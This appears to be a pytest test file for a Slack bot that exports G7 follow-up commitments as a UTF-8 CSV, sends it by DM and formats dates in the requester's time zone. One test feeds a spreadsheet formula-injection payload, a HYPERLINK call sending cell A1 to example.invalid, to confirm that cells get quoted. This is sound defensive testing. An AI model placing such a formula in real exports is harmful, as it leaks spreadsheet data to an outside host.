"""The follow-ups export: the CSV (machine-readable, opens in Excel), `g7bot export`, and the DM through Slack."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from freezegun import freeze_time
from slack_sdk.web.async_client import AsyncWebClient

from bot.__main__ import main
from bot.export.csv import FIELDS, build_followups_csv, export_filename, followup_row, safe_cell
from bot.export.upload import UploadFailed, send_file_by_dm
from bot.release.models import Release
from bot.schedule.models import Commitment, load_commitments
from bot.schedule.occurrence import CommitmentState
from bot.schedule.poster import Poster
from bot.schedule.slack_client import build_post_client
from bot.schedule.store import Store
from bot.settings import ROOT, load_settings
from bot.startup import Started, start
from tests.helpers import COMMITMENTS_YML, SettableClock
from tests.slack_standin import Fault, SlackStandIn

TOKYO = ZoneInfo("Asia/Tokyo")
DONE_AT = dt.datetime(2026, 1, 20, 1, 30, tzinfo=dt.UTC)  # 10:30 in Tokyo
ISO_DATE = re.compile(r"^\d{4}-\d{2}-\d{2}$")
ISO_TIME = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+09:00$")


@pytest.fixture(scope="module")
def commitments(release: Release) -> list[Commitment]:
    return list(load_commitments(ROOT / "data" / COMMITMENTS_YML, release=release).commitments)


def parse(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_the_file_is_utf8_with_a_bom_crlf_and_an_ascii_header(release: Release, commitments: list[Commitment]) -> None:
    content = build_followups_csv([(release, c) for c in commitments], {}, tz=TOKYO)
    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8-sig")
    header, _, rest = text.partition("\r\n")
    assert header == ",".join(FIELDS)
    assert header.isascii()
    assert re.search(r"(?<!\r)\n", text) is None, "every line ends with CRLF"
    assert len(text.split("\r\n")) == len(commitments) + 2  # the header, a row each, and the final line end
    assert text.endswith("\r\n")
    # Japanese is written as UTF-8 (Excel reads it right only with the BOM).
    assert commitments[0].title.ja in rest


def test_it_round_trips_through_the_csv_module_one_commitment_a_row(
    release: Release, commitments: list[Commitment]
) -> None:
    states = {
        commitments[0].id: CommitmentState(
            commitment_id=commitments[0].id, status="done", updated_by="U0DONE", updated_at=DONE_AT
        )
    }
    rows = parse(build_followups_csv([(release, c) for c in commitments], states, tz=TOKYO))
    assert len(rows) == len(commitments)
    assert sorted(r["commitment_id"] for r in rows) == sorted(c.id for c in commitments)
    by_id = {r["commitment_id"]: r for r in rows}
    for c in commitments:
        row = by_id[c.id]
        assert row == {k: safe_cell(v) for k, v in followup_row(release, c, states.get(c.id), tz=TOKYO).items()}
        assert (row["title_ja"], row["title_en"]) == (c.title.ja, c.title.en)
        assert row["release_id"] == release.id and row["release_date"] == release.published.isoformat()
        assert ISO_DATE.match(row["due_date"]) and row["due_date"] == c.due.isoformat()
        assert row["due_is_assumption"] in {"true", "false"}
        assert row["status"] in {"open", "done"}
        assert row["owner_desk"] == c.owner_desk
    done = by_id[commitments[0].id]
    assert (done["status"], done["status_changed_by"]) == ("done", "U0DONE")
    assert ISO_TIME.match(done["status_changed_at"]) and done["status_changed_at"] == "2026-01-20T10:30:00+09:00"
    assert done["done_on"] == "2026-01-20"
    untouched = by_id[commitments[1].id]
    assert (untouched["status_changed_at"], untouched["status_changed_by"], untouched["done_on"]) == ("", "", "")


def test_rows_are_ordered_by_due_date(release: Release, commitments: list[Commitment]) -> None:
    rows = parse(build_followups_csv([(release, c) for c in reversed(commitments)], {}, tz=TOKYO))
    dues = [(r["due_date"], r["commitment_id"]) for r in rows]
    assert dues == sorted(dues)


def test_a_snoozed_commitment_says_until_when(release: Release, commitments: list[Commitment]) -> None:
    c = commitments[0]
    until = DONE_AT + dt.timedelta(days=1)
    state = CommitmentState(commitment_id=c.id, snoozed_until=until, updated_by="U1", updated_at=DONE_AT)
    (row,) = parse(build_followups_csv([(release, c)], {c.id: state}, tz=TOKYO))
    assert (row["status"], row["snoozed_until"]) == ("open", "2026-01-21T10:30:00+09:00")


@pytest.mark.parametrize("start", ["=", "+", "-", "@"], ids=["equals", "plus", "minus", "at"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_quoted(
    release: Release, commitments: list[Commitment], start: str
) -> None:
    payload = f'{start}HYPERLINK("https://example.invalid/?x="&A1,"click")'
    c = commitments[0]
    title = c.title.model_copy(update={"en": payload})
    detail = c.detail.model_copy(update={"ja": f"{start}1+1"})
    evil = c.model_copy(update={"title": title, "detail": detail})
    (row,) = parse(build_followups_csv([(release, evil)], {}, tz=TOKYO))
    assert row["title_en"] == "'" + payload
    assert row["detail_ja"] == f"'{start}1+1"
    assert row["title_ja"] == c.title.ja  # the rest untouched


def test_safe_cell_leaves_ordinary_text_alone() -> None:
    assert safe_cell("2026-01-20") == "2026-01-20"
    assert safe_cell("fr-presidency") == "fr-presidency"
    assert safe_cell("フランス") == "フランス"
    assert safe_cell("\t=1") == "'\t=1"


# ---- the upload flow against the stand-in -----------------------------------------------------------------------


def client_for(slack: SlackStandIn) -> AsyncWebClient:
    return AsyncWebClient(token="xoxb-test", base_url=slack.api_url)


def send(slack: SlackStandIn, content: bytes = b"\xef\xbb\xbfa,b\r\n1,2\r\n") -> object:
    return asyncio.run(
        send_file_by_dm(
            client_for(slack),
            user_id="U0ASKER01",
            filename="followups-2026-01-20.csv",
            content=content,
            title="followups-2026-01-20.csv",
            comment="G7 follow-ups",
        )
    )


FLOW = ["conversations.open", "files.getUploadURLExternal", "upload", "files.completeUploadExternal"]


def test_the_file_goes_through_the_three_steps_in_order_to_the_dm(slack: SlackStandIn) -> None:
    content = "é,日本\r\n".encode("utf-8-sig") * 100
    sent = send(slack, content)
    assert [c.method for c in slack.calls] == FLOW
    asked = slack.calls_to("files.getUploadURLExternal")[0].args
    assert (asked["filename"], int(asked["length"])) == ("followups-2026-01-20.csv", len(content))
    (shared,) = slack.shared
    assert shared["bytes"] == content
    assert shared["channel_id"] == "D0ASKER01" == getattr(sent, "channel", None)
    assert shared["initial_comment"] == "G7 follow-ups"
    assert shared["id"] == getattr(sent, "file_id", None)
    assert slack.calls_to("upload")[0].token is None, "the bot token never goes to the upload URL"
    assert slack.calls_to("files.upload") == []


@pytest.mark.parametrize(
    ("fault", "step", "reason"),
    [
        pytest.param(
            Fault("conversations.open", status=200, body={"ok": False, "error": "user_not_found"}),
            "conversations.open",
            "user_not_found",
            id="no-dm",
        ),
        pytest.param(
            Fault("files.getUploadURLExternal", status=200, body={"ok": False, "error": "invalid_arguments"}),
            "files.getUploadURLExternal",
            "invalid_arguments",
            id="no-url",
        ),
        pytest.param(Fault("upload", status=500), "upload", "http_500", id="upload-refused"),
        pytest.param(
            Fault("files.completeUploadExternal", status=200, body={"ok": False, "error": "channel_not_found"}),
            "files.completeUploadExternal",
            "channel_not_found",
            id="not-shared",
        ),
    ],
)
def test_a_failed_step_says_which_and_why_and_stops_there(
    slack: SlackStandIn, fault: Fault, step: str, reason: str
) -> None:
    slack.add_fault(fault)
    with pytest.raises(UploadFailed) as failed:
        send(slack)
    assert (failed.value.step, failed.value.reason) == (step, reason)
    methods = [c.method for c in slack.calls]
    assert methods == FLOW[: FLOW.index(step) + 1]
    assert slack.shared == []


def test_without_files_write_slack_says_missing_scope() -> None:
    with SlackStandIn(scopes=frozenset({"chat:write", "commands"})) as slack:
        with pytest.raises(UploadFailed, match="missing_scope"):
            send(slack)
        assert slack.calls_to("upload") == []


def test_the_stand_in_completes_only_what_was_uploaded(slack: SlackStandIn) -> None:
    async def go() -> str:
        client = client_for(slack)
        got = await client.files_getUploadURLExternal(filename="x.csv", length=3)
        try:
            await client.api_call("files.completeUploadExternal", json={"files": [{"id": got["file_id"]}]})
        except Exception as exc:
            return str(getattr(exc, "response", {}).get("error"))
        return "ok"

    assert asyncio.run(go()) == "file_not_found"


# ---- through the bot: /g7 followups export, and g7bot export -------------------------------------------------

ASKER = "U0ASKER01"


@pytest.fixture
def data_dir(tmp_path: Path) -> Path:
    folder = tmp_path / "data"
    shutil.copytree(ROOT / "data", folder)
    return folder


@pytest.fixture
def started(data_dir: Path, tmp_path: Path, slack: SlackStandIn, monkeypatch: pytest.MonkeyPatch) -> Iterator[Started]:
    monkeypatch.setenv("G7BOT_DATA_DIR", str(data_dir))
    monkeypatch.setenv("G7BOT_DATABASE_URL", f"sqlite:///{tmp_path / 'g7bot.sqlite3'}")
    monkeypatch.setenv("SLACK_BOT_TOKEN", "xoxb-test")
    monkeypatch.setenv("SLACK_API_URL", slack.api_url)
    bot = start(load_settings(), poster=Poster(build_post_client("xoxb-test", slack.api_url)))
    yield bot
    bot.service.store.close()


def slash(started: Started, text: str) -> dict[str, object]:
    async def go() -> dict[str, object]:
        message = await started.ask(text, user_id=ASKER)
        await started.service.settle()
        return message

    return asyncio.run(go())


def test_followups_export_acks_at_once_and_sends_the_csv_by_dm(started: Started, slack: SlackStandIn) -> None:
    reply = slash(started, "followups export en")
    assert "it will arrive in a direct message" in str(reply["text"])
    assert [c.method for c in slack.calls if c.method in FLOW] == FLOW
    (shared,) = slack.shared
    content, count = started.service.followups_csv()
    assert shared["bytes"] == content and count == len(parse(content)) > 0
    assert shared["channel_id"] == "D" + ASKER[1:]
    assert str(shared["name"]).startswith("followups-") and str(shared["name"]).endswith(".csv")
    assert f"({count}," in str(shared["initial_comment"])
    assert slack.calls_to("files.upload") == []


def test_a_failed_upload_reaches_the_user_as_a_message(started: Started, slack: SlackStandIn) -> None:
    slack.add_fault(Fault("upload", status=503))
    reply = slash(started, "followups export en")
    assert "direct message" in str(reply["text"])
    assert slack.shared == []
    (told,) = [c.args for c in slack.posts() if c.args.get("channel") == ASKER]
    assert "could not be sent" in str(told["text"]) and "http_503" in str(told["text"])


def test_g7bot_export_writes_the_same_file_with_the_states_serve_recorded(
    data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    url = f"sqlite:///{tmp_path / 'g7bot.sqlite3'}"
    monkeypatch.setenv("G7BOT_DATA_DIR", str(data_dir))
    monkeypatch.setenv("G7BOT_DATABASE_URL", url)
    with Store(url) as store:
        assert store.set_done("fr-presidency", release_id="meti-2025-12-10-g7-idt", by="U0DONE", now=DONE_AT)
    out = tmp_path / "out.csv"
    assert main(["export", "--output", str(out)]) == 0
    rows = {r["commitment_id"]: r for r in parse(out.read_bytes())}
    assert rows["fr-presidency"]["status"] == "done" and rows["fr-presidency"]["status_changed_by"] == "U0DONE"
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")

    capsysbinary.readouterr()
    assert main(["export", "--output", "-"]) == 0
    assert capsysbinary.readouterr().out == out.read_bytes()

    monkeypatch.chdir(tmp_path)
    assert main(["export"]) == 0
    (default,) = tmp_path.glob("followups-*.csv")
    assert re.fullmatch(r"followups-\d{4}-\d{2}-\d{2}\.csv", default.name)
    assert default.read_bytes() == out.read_bytes()


# ---- in the requester's time zone ------------------------------------------------------------------------------

PARIS = ZoneInfo("Europe/Paris")
# 20:30 UTC on 20 January 2026: 21:30 that day in Paris, already 05:30 on the 21st in Tokyo.
LATE_EVENING = dt.datetime(2026, 1, 20, 20, 30, tzinfo=dt.UTC)
RELEASE_ID = "meti-2025-12-10-g7-idt"
ANY_ISO_TIME = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}[+-]\d{2}:\d{2}$")
TIME_FIELDS = ("snoozed_until", "status_changed_at", "assigned_at")
DATE_FIELDS = ("release_date", "due_date", "done_on")


def assert_machine_readable(content: bytes) -> list[dict[str, str]]:
    """The rules every export keeps, whatever its zone: BOM, ASCII header, ISO dates and times, ja/en apart."""
    assert content.startswith(b"\xef\xbb\xbf")
    header = content.decode("utf-8-sig").split("\r\n", 1)[0]
    assert header == ",".join(FIELDS) and header.isascii()
    rows = parse(content)
    assert rows
    for row in rows:
        for name in TIME_FIELDS:
            assert row.get(name, "") == "" or ANY_ISO_TIME.match(row[name]), (name, row[name])
        for name in DATE_FIELDS:
            assert row[name] == "" or ISO_DATE.match(row[name]), (name, row[name])
        assert {"title_ja", "title_en", "owner_desk_ja", "owner_desk_en"} <= row.keys()
    return rows


def test_times_and_dates_follow_the_zone_asked_for(release: Release, commitments: list[Commitment]) -> None:
    done, snoozed = commitments[0], commitments[1]
    states = {
        done.id: CommitmentState(commitment_id=done.id, status="done", updated_by="U1", updated_at=LATE_EVENING),
        snoozed.id: CommitmentState(
            commitment_id=snoozed.id,
            snoozed_until=LATE_EVENING + dt.timedelta(days=1),
            updated_by="U2",
            updated_at=LATE_EVENING,
        ),
    }
    items = [(release, done), (release, snoozed)]
    paris = {r["commitment_id"]: r for r in assert_machine_readable(build_followups_csv(items, states, tz=PARIS))}
    tokyo = {r["commitment_id"]: r for r in assert_machine_readable(build_followups_csv(items, states, tz=TOKYO))}
    assert paris[done.id]["status_changed_at"] == "2026-01-20T21:30:00+01:00"
    assert tokyo[done.id]["status_changed_at"] == "2026-01-21T05:30:00+09:00"
    # The day it was done is the day on the reader's calendar.
    assert (paris[done.id]["done_on"], tokyo[done.id]["done_on"]) == ("2026-01-20", "2026-01-21")
    assert paris[snoozed.id]["snoozed_until"] == "2026-01-21T21:30:00+01:00"
    assert tokyo[snoozed.id]["snoozed_until"] == "2026-01-22T05:30:00+09:00"


def test_the_file_name_is_dated_in_the_zone_asked_for() -> None:
    assert export_filename(LATE_EVENING, PARIS) == "followups-2026-01-20.csv"
    assert export_filename(LATE_EVENING, TOKYO) == "followups-2026-01-21.csv"


@pytest.fixture
def started_at(
    data_dir: Path, tmp_path: Path, slack: SlackStandIn, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Started]:
    """The bot, its clock at LATE_EVENING, with one commitment done then."""
    url = f"sqlite:///{tmp_path / 'g7bot.sqlite3'}"
    with Store(url) as store:
        assert store.set_done("fr-presidency", release_id=RELEASE_ID, by="U0DONE", now=LATE_EVENING)
    monkeypatch.setenv("G7BOT_DATA_DIR", str(data_dir))
    monkeypatch.setenv("G7BOT_DATABASE_URL", url)
    monkeypatch.setenv("SLACK_BOT_TOKEN", "xoxb-test")
    monkeypatch.setenv("SLACK_API_URL", slack.api_url)
    poster = Poster(build_post_client("xoxb-test", slack.api_url))
    bot = start(load_settings(), poster=poster, clock=SettableClock(lambda: LATE_EVENING))
    yield bot
    bot.service.store.close()


def exported(started: Started, slack: SlackStandIn) -> tuple[str, dict[str, str], str]:
    """Ask for the export as ASKER: the file's name, fr-presidency's row, and the DM's comment."""
    slash(started, "followups export en")
    (shared,) = slack.shared
    rows = {r["commitment_id"]: r for r in assert_machine_readable(bytes(shared["bytes"]))}
    return str(shared["name"]), rows["fr-presidency"], str(shared["initial_comment"])


def test_slack_export_is_in_the_requesters_time_zone(started_at: Started, slack: SlackStandIn) -> None:
    slack.timezones[ASKER] = "Europe/Paris"
    name, row, comment = exported(started_at, slack)
    assert [c.args.get("user") for c in slack.calls_to("users.info")].count(ASKER) >= 1
    assert name == "followups-2026-01-20.csv"
    assert row["status_changed_at"] == "2026-01-20T21:30:00+01:00" and row["done_on"] == "2026-01-20"
    assert "21:30 CET" in comment


def test_another_requester_gets_their_own_zone(started_at: Started, slack: SlackStandIn) -> None:
    slack.timezones[ASKER] = "America/New_York"
    name, row, comment = exported(started_at, slack)
    assert name == "followups-2026-01-20.csv"
    assert row["status_changed_at"] == "2026-01-20T15:30:00-05:00"
    assert "15:30 EST" in comment


@pytest.mark.parametrize(
    "answer",
    [
        pytest.param(None, id="no-tz"),
        pytest.param("Mars/Olympus_Mons", id="unknown-zone"),
        pytest.param(Fault("users.info", status=200, body={"ok": False, "error": "user_not_found"}), id="error"),
        pytest.param(Fault("users.info", status=503, times=5), id="slack-down"),
    ],
)
def test_without_the_requesters_zone_the_schedules_is_used(
    started_at: Started, slack: SlackStandIn, answer: str | Fault | None
) -> None:
    if isinstance(answer, Fault):
        slack.add_fault(answer)
    else:
        slack.timezones[ASKER] = answer
    name, row, comment = exported(started_at, slack)
    # data/schedule.yml's timezone: Asia/Tokyo. The file is sent all the same.
    assert name == "followups-2026-01-21.csv"
    assert row["status_changed_at"] == "2026-01-21T05:30:00+09:00" and row["done_on"] == "2026-01-21"
    assert "05:30 JST" in comment


def cli_export(
    data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, *args: str
) -> tuple[int, dict[str, str]]:
    url = f"sqlite:///{tmp_path / 'g7bot.sqlite3'}"
    monkeypatch.setenv("G7BOT_DATA_DIR", str(data_dir))
    monkeypatch.setenv("G7BOT_DATABASE_URL", url)
    with Store(url) as store:
        store.set_done("fr-presidency", release_id=RELEASE_ID, by="U0DONE", now=LATE_EVENING)
    out = tmp_path / "out.csv"
    code = main(["export", "--output", str(out), *args])
    rows = {r["commitment_id"]: r for r in assert_machine_readable(out.read_bytes())} if code == 0 else {}
    return code, rows.get("fr-presidency", {})


@pytest.mark.parametrize(
    ("args", "changed_at", "done_on"),
    [
        pytest.param((), "2026-01-21T05:30:00+09:00", "2026-01-21", id="schedule-timezone"),
        pytest.param(("--tz", "Europe/Paris"), "2026-01-20T21:30:00+01:00", "2026-01-20", id="tz-paris"),
        pytest.param(("--tz", "UTC"), "2026-01-20T20:30:00+00:00", "2026-01-20", id="tz-utc"),
    ],
)
def test_g7bot_export_writes_in_the_schedules_zone_or_the_one_given(
    data_dir: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    args: tuple[str, ...],
    changed_at: str,
    done_on: str,
) -> None:
    code, row = cli_export(data_dir, tmp_path, monkeypatch, *args)
    assert code == 0
    assert (row["status_changed_at"], row["done_on"]) == (changed_at, done_on)


def test_g7bot_export_follows_the_schedules_timezone_setting(
    data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    schedule = data_dir / "schedule.yml"
    schedule.write_text(
        schedule.read_text(encoding="utf-8").replace("timezone: Asia/Tokyo", "timezone: Europe/Paris", 1),
        encoding="utf-8",
    )
    code, row = cli_export(data_dir, tmp_path, monkeypatch)
    assert code == 0 and row["status_changed_at"] == "2026-01-20T21:30:00+01:00"


def test_g7bot_export_refuses_an_unknown_zone(
    data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _ = cli_export(data_dir, tmp_path, monkeypatch, "--tz", "Mars/Olympus_Mons")
    assert code == 2
    err = capsys.readouterr().err
    assert "--tz" in err and "Mars/Olympus_Mons" in err and "Asia/Tokyo" in err
    assert not (tmp_path / "out.csv").exists()


@pytest.mark.parametrize(
    ("args", "name"),
    [((), "followups-2026-01-21.csv"), (("--tz", "Europe/Paris"), "followups-2026-01-20.csv")],
    ids=["schedule-timezone", "tz-paris"],
)
def test_g7bot_export_names_the_file_by_the_date_in_that_zone(
    data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: tuple[str, ...], name: str
) -> None:
    monkeypatch.setenv("G7BOT_DATA_DIR", str(data_dir))
    monkeypatch.setenv("G7BOT_DATABASE_URL", f"sqlite:///{tmp_path / 'g7bot.sqlite3'}")
    monkeypatch.chdir(tmp_path)
    with freeze_time(LATE_EVENING):
        assert main(["export", *args]) == 0
    assert [p.name for p in tmp_path.glob("followups-*.csv")] == [name]
